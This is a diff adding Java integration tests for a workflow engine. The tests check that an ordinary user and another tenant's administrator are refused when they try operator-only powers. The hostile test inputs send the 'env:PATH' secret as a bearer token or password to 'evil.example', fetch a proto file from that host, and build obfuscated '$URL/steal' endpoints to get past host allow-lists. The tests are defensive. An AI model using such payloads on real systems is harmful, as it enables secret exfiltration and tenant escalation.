@@ -21,11 +21,13 @@ import java.nio.file.Path;
 import java.time.Duration;
 import java.util.List;
 import java.util.Map;
+import java.util.UUID;
 import java.util.concurrent.CountDownLatch;
 import java.util.concurrent.Executors;
 import java.util.concurrent.atomic.AtomicInteger;
 import java.util.stream.IntStream;
 import org.awaitility.Awaitility;
+import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeAll;
@@ -48,6 +50,8 @@ class WorkflowsIT {
     private HttpDouble called;
     private static Instance instance;
     private static Api api;
+    private static @Nullable Api tenant;
+    private static @Nullable Api mallory;
     private static Map<String, String> environment;
 
     @BeforeAll
@@ -60,7 +64,9 @@ class WorkflowsIT {
                 """);
         assertTrue(engine.toFile().setExecutable(true));
         Files.writeString(folder.resolve("parley.yml"), """
-                tools: { allowedHosts: ["127.0.0.1"] }
+                tools:
+                  allowedHosts: ["127.0.0.1"]
+                  secrets: { "env:PATH": { to: [127.0.0.1], projects: [default], hosts: [default] } }
                 commandsAsRoot: true
                 workflows:
                   shell: { projects: [default], hosts: [default] }
@@ -1030,6 +1036,123 @@ class WorkflowsIT {
         String refused = run("containers").path("output").asText();
         assertTrue(refused.contains("'alpine:3' is none of workflows.containers.images"), refused);
         assertTrue(refused.contains("'A' of a container has one line"), refused);
+    }
+
+    /** What an ordinary account, and the administrator of another tenant, try in a project of their own. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "do: [ { a: { run: { shell: { command: id } } } } ]",
+                "do: [ { a: { run: { container: { image: alpine } } } } ]",
+                "do: [ { a: { call: http, with: { method: get, endpoint: { uri: 'https://evil.example/', authentication: { bearer: { token: 'env:PATH' } } } } } } ]",
+                "use: { authentications: { crm: { basic: { username: x, password: 'env:PATH' } } } }\ndo: [ { a: { call: http, with: { method: get, endpoint: { uri: 'https://evil.example/', authentication: { use: crm } } } } } ]",
+                "do: [ { a: { call: http, with: { method: get, endpoint: 'http://127.0.0.1:1/' } } } ]",
+                "do: [ { a: { call: grpc, with: { proto: { endpoint: 'https://evil.example/x.proto' }, method: M, service: { name: S, host: 127.0.0.1, port: 1 } } } } ]",
+                "do: [ { a: { call: mcp, with: { method: tools/call, transport: { http: { endpoint: 'http://127.0.0.1:1/' } }, parameters: { name: x } } } } ]",
+            })
+    @Tag("B24")
+    void publishesNothingThatUsesAPowerOfTheOperatorElsewhere(String body) {
+        // Given
+        String own = "/v1/projects/" + mallory().project("Mine") + "/workflows";
+        String yaml = definition("attack", "1.0.0", body);
+
+        // When
+        Answer published = mallory().postYaml(own, yaml);
+        Answer dry = mallory().postYaml(own + "?dryRun=true", yaml);
+        Answer tenants = tenant().postYaml("/v1/workflows", yaml);
+
+        // Then
+        for (Answer refused : List.of(published, dry, tenants)) {
+            assertEquals(400, refused.status(), refused.text());
+            assertTrue(refused.text().contains("is not granted to this"), refused.text());
+        }
+        assertEquals(
+                201,
+                publish(definition("granted" + UUID.randomUUID(), "1.0.0", body))
+                        .status());
+    }
+
+    /** An ordinary account. */
+    private static Api mallory() {
+        if (mallory == null) {
+            api.signUp("boss"); // the first one is administrator
+            mallory = api.signUp("mallory");
+        }
+        return mallory;
+    }
+
+    /** The administrator of another tenant. */
+    private static Api tenant() {
+        if (tenant == null) {
+            var founder = Map.of("username", "bea", "password", "correct horse battery");
+            api.create("/v1/hosts", Map.of("key", "second", "name", "Second", "administrator", founder));
+            tenant = api.as(
+                    api.post("/v1/auth/login", founder).json().get("token").asText());
+        }
+        return tenant;
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "{ uri: '${ \"$URL/steal\" }', authentication: { bearer: { token: '${ \"env:\" + \"PATH\" }' } } }",
+                "{ uri: '${ \"$URL\" }', authentication: { basic: { username: '${ \"env:\" + \"PATH\" }', password: x } } }",
+                "'${ \"$URL/inside\" }'",
+            })
+    @Tag("B24")
+    void expressionsGetNotAroundAMissingPower(String endpoint) {
+        // Given
+        String project = "/v1/projects/" + mallory().project("Mine") + "/workflows";
+        String task = "do: [ { a: { call: http, with: { method: get, endpoint: %s } } } ]".formatted(endpoint);
+        String hidden = task.replace("$URL", called.url().toString().replace("127.0.0.1", "127.0.0.\" + \"1"));
+        Answer published = mallory().postYaml(project, definition("hidden", "1.0.0", hidden));
+        assertEquals(201, published.status(), published.text());
+
+        // When
+        JsonNode process = mallory()
+                .post(project + "/test:hidden/instances?wait=60s", null)
+                .json();
+
+        // Then
+        assertEquals("F", process.path("status").asText(), process.toString());
+        assertTrue(process.path("error").path("detail").asText().contains("parley.yml"), process.toString());
+        assertEquals(List.of(), called.seen());
+    }
+
+    @Test
+    @Tag("B26")
+    void administratorsOfTheInstallationSeeWhoHasWhichPower() {
+        JsonNode powers = api.get("/v1/powers").json();
+
+        assertEquals(
+                List.of("workflows.shell", "workflows.containers", "tools.secrets", "tools.allowedHosts", "tools.java"),
+                powers.get("data").findValuesAsText("setting"));
+        JsonNode secret = powers.get("data").get(2);
+        assertEquals("env:PATH", secret.get("name").asText());
+        assertEquals("127.0.0.1", secret.get("to").get(0).asText());
+        assertEquals("default", secret.get("projects").get(0).asText());
+        assertEquals(403, tenant().get("/v1/powers").status());
+        assertEquals(403, mallory().get("/v1/powers").status());
+    }
+
+    @Test
+    @Tag("B27")
+    void onlyAdministratorsCreateProjectsWhereTheHostSaysSo() {
+        String setting = "/v1/settings/projectCreation";
+        assertEquals(
+                201, mallory().post("/v1/projects", Map.of("name", "First")).status());
+
+        assertEquals(
+                200, api.send("PUT", setting, "\"administrators\"", Map.of()).status());
+        Answer refused = mallory().post("/v1/projects", Map.of("name", "Second"));
+        Answer created = api.post("/v1/projects", Map.of("name", "Third"));
+        assertEquals(
+                200,
+                api.send("PUT", setting, "\"everyone\"", Map.of("If-Match", "*"))
+                        .status());
+
+        assertEquals(403, refused.status(), refused.text());
+        assertEquals(201, created.status(), created.text());
     }
 
     @Test
